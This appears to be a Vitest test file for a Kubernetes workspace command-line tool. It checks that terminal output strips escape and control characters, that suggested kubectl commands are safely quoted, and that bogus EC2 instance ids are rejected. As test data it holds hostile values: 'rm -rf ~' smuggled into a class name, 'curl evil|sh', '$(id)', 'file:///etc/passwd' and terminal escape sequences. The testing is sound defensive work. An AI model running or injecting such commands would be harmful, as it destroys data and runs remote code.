import { chmod, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { afterAll, beforeAll, beforeEach, expect, test, vi } from 'vitest';
import { systemClock } from '../controller/lib/clock.ts';
import { CannotError } from './base/kubectl.ts';
import { createProgram } from './program.ts';
import { listText } from './views/text.ts';
import { viewOf, type WorkspaceView } from './views/views.ts';

/** An escape sequence that clears the screen, a change of direction, what hides, and a line of its own. */
const WORDS = 'a\u001b[2Jb\u009bc\u202ed\u200be\u2028f\ng\rh\u0007i';
const HOSTILE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
const condition = (type: string) => ({ type, status: 'False', reason: `R${WORDS}`, message: WORDS });
const WORKSPACE = {
  metadata: { name: 'ada', namespace: 'team' },
  spec: { className: 'standard' },
  status: {
    conditions: [condition('Ready')],
    launch: { number: 2, cause: { kind: 'Restart', ref: WORDS }, instanceID: WORDS, readyAt: WORDS },
    instance: { id: 'i-2', state: WORDS, type: WORDS, zone: `us-west-2a${WORDS}` },
    history: [{ number: 1, cause: { kind: WORDS, ref: WORDS }, outcome: WORDS, endedAt: WORDS }],
  },
};
const CLASS = {
  metadata: { name: 'standard' },
  status: {
    conditions: [condition('RolloutComplete')],
    rollout: { startedAt: WORDS, total: 2, updated: 1, estimatedEndAt: WORDS },
    halted: [{ content: '*', since: WORDS, by: WORDS, message: WORDS }],
  },
};

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'terminal-'));
  await writeFile(join(folder, 'console'), `\u001b[32mOK\u001b[0m\tready\r\n${WORDS}\n`);
  for (const [name, file] of [
    ['kubectl', 'object'],
    ['aws', 'console'],
  ] as const) {
    await writeFile(join(folder, name), `#!/bin/sh\ncat '${join(folder, file)}'\n`);
    await chmod(join(folder, name), 0o755);
  }
});
afterAll(() => rm(folder, { recursive: true }));
beforeEach(() => void vi.stubEnv('PATH', `${folder}${delimiter}${process.env.PATH}`));

const shown = (object: object, ...args: string[]) => shownBy({ isColoured: false }, object, ...args);

async function shownBy(
  { isColoured }: { isColoured: boolean },
  object: object,
  ...args: string[]
): Promise<string> {
  await writeFile(join(folder, 'object'), JSON.stringify(object));
  let text = '';
  const write = (more: string) => {
    text += more;
  };
  const { program } = createProgram(systemClock, { write, tell: write, isScreen: false, isColoured });
  await program.parseAsync(args, { from: 'user' });
  return text;
}

test.each([
  ['status', WORKSPACE, ['status', 'ada']],
  ['a list', { items: [WORKSPACE] }, ['status']],
  ['why', WORKSPACE, ['why', 'ada']],
  ['a roll-out', CLASS, ['rollout', 'standard']],
])('%s shows plain lines alone, for any words in the object', async (_what, object, args) => {
  const text = await shown(object, ...args);
  expect(text).toContain('[2Jb');
  expect(text.split('\n').filter((line) => HOSTILE.test(line))).toEqual([]);
  expect(text).not.toMatch(/^g/m);
  for (const format of ['json', 'yaml']) {
    const machine = await shown(object, ...args, '-o', format);
    expect(machine.split('\n').filter((line) => HOSTILE.test(line))).toEqual([]);
  }
});

test('colours are for a terminal alone, and for no format that a program reads', async () => {
  const colour = '\u001b[31m';
  expect(await shownBy({ isColoured: true }, WORKSPACE, 'status', 'ada')).toContain(colour);
  expect(await shownBy({ isColoured: false }, WORKSPACE, 'status', 'ada')).not.toContain(colour);
  for (const format of ['json', 'yaml'])
    expect(await shownBy({ isColoured: true }, WORKSPACE, 'status', 'ada', '-o', format)).not.toContain(
      colour,
    );
});

test('a list ends with how many there are of each reason, for any number of them', async () => {
  const many = Array.from({ length: 150_000 }).fill(viewOf({ metadata: { name: 'a' }, spec: {} }));
  expect(listText(many as WorkspaceView[]).slice(-50)).toMatch(/\n150000 Workspaces: 150000 NotSeen\n$/);
  expect(await shown({ items: [] }, 'status')).toMatch(/\n0 Workspaces\n$/);
});

test('the command to type next goes to the cluster that was asked, and holds nothing that a shell acts on', async () => {
  const flags = ['--context=prod', '--as=x y', '--kubeconfig=$(id)'];
  const text = await shown(WORKSPACE, 'why', 'ada', ...flags);
  expect(text).toContain(
    `Next      kubectl events --for wks/ada --namespace team --context=prod '--kubeconfig=$(id)' '--as=x y'\n`,
  );
  const conditions = [{ ...condition('Ready'), reason: 'QuotaExceeded' }];
  const object = { ...WORKSPACE, spec: { className: "a'; rm -rf ~ #" }, status: { conditions } };
  expect(await shown(object, 'why', 'ada')).toContain(`kubectl describe wksc 'a'\\''; rm -rf ~ #'\n`);
});

test('a class that was edited is not complete while its status is of the edit before', async () => {
  const conditions = [
    { type: 'RolloutComplete', status: 'True', reason: 'RolloutComplete', message: 'All.' },
  ];
  const edited = { metadata: { name: 'c', generation: 2 }, status: { observedGeneration: 1, conditions } };
  expect(await shown(edited, 'rollout', 'c')).toContain(
    'c: Unknown. The operator has not looked at generation 2 of the class yet.',
  );
});

test('the console of an instance, which prints any bytes, reaches the terminal as plain text', async () => {
  const text = await shown(WORKSPACE, 'logs', 'ada');
  expect(text).toMatch(/^OK\tready$/m);
  expect(text).toMatch(/^ab/m);
  expect(text.split('\n').filter((line) => HOSTILE.test(line.replaceAll('\t', '')))).toEqual([]);
});

test.each(['i-2; curl evil|sh', '--endpoint-url=http://evil', 'file:///etc/passwd', '$(id)', WORDS])(
  'an instance id that EC2 does not give is handed to no program and no person: %j',
  async (id) => {
    const { status } = WORKSPACE;
    const object = { ...WORKSPACE, status: { ...status, instance: { ...status.instance, id } } };
    for (const what of ['logs', 'ssh']) {
      const failed = await shown(object, what, 'ada', '--print').catch((error: unknown) => error);
      expect(failed).toBeInstanceOf(CannotError);
      expect(HOSTILE.test((failed as Error).message)).toBe(false);
    }
  },
);
